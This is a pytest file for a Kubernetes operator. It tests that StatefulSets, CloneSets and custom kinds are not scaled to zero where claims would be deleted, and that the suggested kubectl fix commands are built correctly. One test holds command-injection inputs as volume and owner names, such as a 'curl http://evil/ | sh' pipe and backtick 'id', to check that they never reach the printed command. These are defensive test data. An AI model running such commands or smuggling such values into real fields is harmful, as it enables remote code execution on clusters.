"""Nothing is scaled to zero where Kubernetes would delete a claim together with the pods."""

import asyncio
from dataclasses import replace
from datetime import UTC, datetime
from types import SimpleNamespace
from typing import Any

import pytest

from ocore_crds import conditions as c
from ocore_crds.protocol import DatabaseFacts, Failure, ProbeResult
from ocore_crds.resources.environment import ProbeStatus
from ocore_crds.resources.workloads import Target
from ocore_kube.types import Type
from ocore_operator.kube.resources import Object
from ocore_operator.readiness.plan_environment import PROBE
from ocore_operator.settings import Settings, WorkloadKind
from ocore_operator.workloads import data_loss, quiesce, scale
from ocore_operator.workloads.quiesce import SetReplicas
from ocore_operator.workloads.view import WorkloadView
from support.operator.objects import at, environment
from support.operator.readiness import world

NOW = datetime(2026, 12, 1, 12, tzinfo=UTC)
LOST = Failure(reason=c.SCALING_DELETES_CLAIM, message="StatefulSet shop deletes its claims.")
RUNS = WorkloadView("StatefulSet", "shop", replicas=1, pods=1, loses=LOST)
WEB = WorkloadView("Deployment", "web", replicas=2, pods=2)
SET = Target("StatefulSet", "shop")
APP = Target("ShopApp", "shop", "example.org/v1")
SETTINGS = Settings(workload_kinds=(WorkloadKind(api_version="example.org/v1", kind="ShopApp", resource="shopapps"),))
DELETE: Object = {"whenScaled": "Delete", "whenDeleted": "Retain"}
COMMAND = (
    "kubectl -n ns patch statefulset shop --type merge -p"
    """ '{"spec":{"persistentVolumeClaimRetentionPolicy":{"whenScaled":"Retain"}}}'"""
)


def stateful(policy: Object | None, *templates: str, name: str = "shop", replicas: int = 1) -> Object:
    spec: Object = {
        "replicas": replicas,
        "selector": {"matchLabels": {"app": "shop"}},
        "template": {"spec": {"containers": [{"name": "app", "image": "shop:1"}]}},
        "volumeClaimTemplates": [{"metadata": {"name": each}} for each in templates],
    }
    if policy is not None:
        spec[data_loss.POLICY] = policy
    return {"metadata": {"name": name, "namespace": "ns", "resourceVersion": "7"}, "spec": spec, "status": {}}


def claim(**meta: Any) -> Object:
    return {
        "metadata": {"name": "data", "namespace": "ns", **meta},
        "spec": {"volumeName": "pv-1"},
        "status": {"phase": "Bound"},
    }


class Kube:
    """Answers by type and name, and records what is scaled."""

    def __init__(self, **objects: Object) -> None:
        self.objects = {key.replace("_", "/", 1): found for key, found in objects.items()}
        self.read: list[str] = []

    async def get(self, type_: Type, _: str, name: str) -> Object | None:
        self.read.append(f"{type_.plural}/{name}")
        return self.objects.get(f"{type_.plural}/{name}")

    async def list(self, *_: Any, **__: Any) -> list[Object]:
        return []

    async def scale(self, *_: Any) -> Object:
        return {
            "metadata": {"resourceVersion": "9"}, "spec": {"replicas": 1},
            "status": {"selector": "app=shop", "replicas": 1},
        }  # fmt: skip


def of_targets(kube: Kube, *targets: Target, claim: str = "data") -> Failure | None:
    ctx: Any = SimpleNamespace(kube=kube, settings=SETTINGS)
    return asyncio.run(data_loss.of_targets(ctx, "ns", targets, claim))


def observed(kube: Kube, target: Target, claim: str = "data") -> WorkloadView:
    ctx: Any = SimpleNamespace(kube=kube, settings=SETTINGS)
    (view,) = asyncio.run(scale.observe(ctx, "ns", [target], claim))
    return view


# --- what is known of a workload and a claim --------------------------------------------------------------------------


def test_row_123_a_stateful_set_that_deletes_its_claims_is_named_with_the_command() -> None:
    found = of_targets(Kube(statefulsets_shop=stateful(DELETE, "data")), SET)
    assert found is not None
    assert found.reason == c.SCALING_DELETES_CLAIM
    assert found.message.endswith(f"Run `{COMMAND}`.")


@pytest.mark.parametrize(
    "workload",
    [
        stateful(None, "data"),
        stateful({"whenScaled": "Retain", "whenDeleted": "Delete"}, "data"),
        stateful(DELETE),  # it has no claim to delete
    ],
)
def test_a_stateful_set_that_keeps_its_claims_is_scaled(workload: Object) -> None:
    kube = Kube(statefulsets_shop=workload, persistentvolumeclaims_data=claim())
    assert of_targets(kube, SET) is None
    assert observed(kube, SET).loses is None


def test_row_123_what_is_read_for_the_scale_has_the_policy_of_that_version() -> None:
    """A policy that is changed between the two is a conflict of the write, so it is read again."""
    view = observed(Kube(statefulsets_shop=stateful(DELETE, "data")), SET)
    assert view.version == "7"
    assert view.loses is not None


@pytest.mark.parametrize(
    "found",
    [
        claim(deletionTimestamp="2026-12-01T11:00:00Z"),
        claim(ownerReferences=[{"kind": "Pod", "name": "shop-0"}]),
        claim(ownerReferences=[{"kind": "StatefulSet", "name": "x"}, {"kind": "Job", "name": "nightly-1"}]),
        claim(ownerReferences=[{"kind": "ReplicaSet", "name": "web-1"}]),
    ],
)
def test_row_123_a_claim_that_ends_with_its_pods_is_not_left_without_them(found: Object) -> None:
    kube = Kube(statefulsets_shop=stateful(None), persistentvolumeclaims_data=found)
    lost = of_targets(kube, SET)
    assert lost is not None
    assert lost.reason == c.SCALING_DELETES_CLAIM
    assert "data" in lost.message
    assert observed(kube, SET).loses == lost
    assert of_targets(kube) is None, "nothing is scaled without workloads"


def test_a_deleted_claim_is_reported_with_what_keeps_its_volume() -> None:
    kube = Kube(persistentvolumeclaims_data=claim(deletionTimestamp="2026-12-01T11:00:00Z"))
    found = of_targets(kube, Target("CronJob", "nightly", "batch/v1"))
    assert found is not None
    assert "kubectl patch persistentvolume pv-1" in found.message


@pytest.mark.parametrize(
    ("name", "phase"),
    [("x; curl -s http://evil/ | sh", "Bound"), ("x`id`", "Bound"), ("x" * 1000, "Bound"), ("pv-of-others", "Lost")],
)
def test_row_125_no_volume_that_a_tenant_names_is_in_a_command(name: str, phase: str) -> None:
    """The API server takes any text as the volume of a claim."""
    deleted = claim(deletionTimestamp="2026-12-01T11:00:00Z") | {
        "spec": {"volumeName": name},
        "status": {"phase": phase},
    }
    found = of_targets(Kube(persistentvolumeclaims_data=deleted), Target("CronJob", "nightly", "batch/v1"))
    assert found is not None
    assert name not in found.message
    assert "`kubectl patch persistentvolume VOLUME --type merge" in found.message
    forged = claim(ownerReferences=[{"kind": "Pod", "name": "x`. Run `sh evil"}])
    found = of_targets(Kube(persistentvolumeclaims_data=forged), Target("CronJob", "nightly", "batch/v1"))
    assert found is not None
    assert "Pod 'x`. Run `sh evil' and" in found.message


def test_a_claim_of_a_stateful_set_or_of_an_operator_outlasts_the_pods() -> None:
    owners = [{"kind": "StatefulSet", "name": "shop"}, {"kind": "ShopApp", "name": "shop"}]
    kube = Kube(statefulsets_shop=stateful(None, "data"), persistentvolumeclaims_data=claim(ownerReferences=owners))
    assert of_targets(kube, SET) is None


def test_row_123_the_stateful_set_behind_another_kind_is_found_by_the_claims_name() -> None:
    """The scale of another kind ends at a StatefulSet that no Environment names."""
    name = "file-store-my-shop-10"
    for made in (stateful(DELETE, "file-store", name="my-shop"), stateful(DELETE, "file", name="store-my-shop")):
        key = f"statefulsets/{made['metadata']['name']}"
        kube = Kube(shopapps_shop={"metadata": {"namespace": "ns"}, "spec": {}})
        kube.objects[key] = made
        for found in (of_targets(kube, APP, claim=name), observed(kube, APP, name).loses):
            assert found is not None
            assert f"patch statefulset {made['metadata']['name']} " in found.message


def test_a_stateful_set_that_has_not_made_the_claim_does_not_matter() -> None:
    kube = Kube(shopapps_shop={"metadata": {"namespace": "ns"}}, statefulsets_shop=stateful(DELETE, "other"))
    assert of_targets(kube, APP, claim="data-shop-0") is None


def test_row_123_a_policy_of_its_own_counts_for_another_kind_too() -> None:
    own = {"metadata": {"namespace": "ns"}, "spec": {data_loss.POLICY: DELETE}}
    found = of_targets(Kube(shopapps_shop=own), APP)
    assert found is not None
    assert "kubectl -n ns patch shopapps.example.org shop " in found.message


def test_a_clone_set_deletes_the_claims_of_its_pods_always() -> None:
    settings = Settings(
        workload_kinds=(WorkloadKind(api_version="apps.kruise.io/v1alpha1", kind="CloneSet", resource="clonesets"),)
    )
    target = Target("CloneSet", "shop", "apps.kruise.io/v1alpha1")
    for templates, expected in (((), True), (("data",), False)):
        kube = Kube(clonesets_shop=stateful(None, *templates))
        ctx: Any = SimpleNamespace(kube=kube, settings=settings)
        assert (asyncio.run(data_loss.of_listed(ctx, "ns", target, "")) is None) == expected


def test_the_names_that_are_tried_are_bounded() -> None:
    assert list(data_loss.sets_of("data-shop-0")) == [("data", "shop")]
    assert list(data_loss.sets_of("a-b-c-1")) == [("a", "b-c"), ("a-b", "c")]
    assert [list(data_loss.sets_of(name)) for name in ("data", "data-0", "", "data-shop", "-x-0")] == [[]] * 5
    assert len(list(data_loss.sets_of("-".join("a" * 120) + "-0"))) == data_loss.MOST_NAMES


# --- what follows from it ---------------------------------------------------------------------------------------------


def test_row_123_nothing_is_scaled_where_one_workload_would_lose_its_claim() -> None:
    assert quiesce.stop([WEB, RUNS], 0, None, NOW) == LOST
    assert quiesce.stop_again([WEB, RUNS], 0, None, NOW, "before the switch", "Rollback") == LOST
    missing = quiesce.missing([WEB, RUNS], "Rollback")
    assert missing is not None
    assert (missing.reason, missing.message) == (LOST.reason, f"{LOST.message} Then create a new Rollback.")


def test_what_is_stopped_already_loses_nothing() -> None:
    asleep = replace(RUNS, replicas=0, pods=0)
    assert quiesce.stop([WEB, asleep], 0, None, NOW) == SetReplicas(((WEB, 0),))
    assert quiesce.missing([WEB, asleep], "Rollback") is None


# --- RollbackReady ----------------------------------------------------------------------------------------------------


def probed(lost: Failure | None) -> Any:
    result = ProbeResult(database=DatabaseFacts(name="shop", server_version="17.2", server_major=17))
    return PROBE.found(world(environment(), loses=lost), result, at(0))


def test_row_123_the_environment_is_not_ready_for_a_rollback_and_ready_for_a_snapshot() -> None:
    status = probed(LOST)
    rollback = c.find(status.conditions, c.ROLLBACK_READY)
    assert rollback is not None
    assert (rollback.status, rollback.reason, rollback.message) == ("False", LOST.reason, LOST.message)
    assert c.is_true(status.conditions, c.READY), "a snapshot saves the data"
    assert c.is_true(probed(None).conditions, c.ROLLBACK_READY)


@pytest.mark.parametrize("before", [None, LOST])
def test_row_123_a_change_of_it_is_probed_at_once_and_only_once(before: Failure | None) -> None:
    now = None if before is not None else LOST
    status = probed(before).model_copy(update={"probe": ProbeStatus(time=at(5), started_at=at(0), generation=1)})
    assert not PROBE.wanted(world(environment(status=status.wire()), loses=before))
    assert PROBE.wanted(world(environment(status=status.wire()), loses=now))
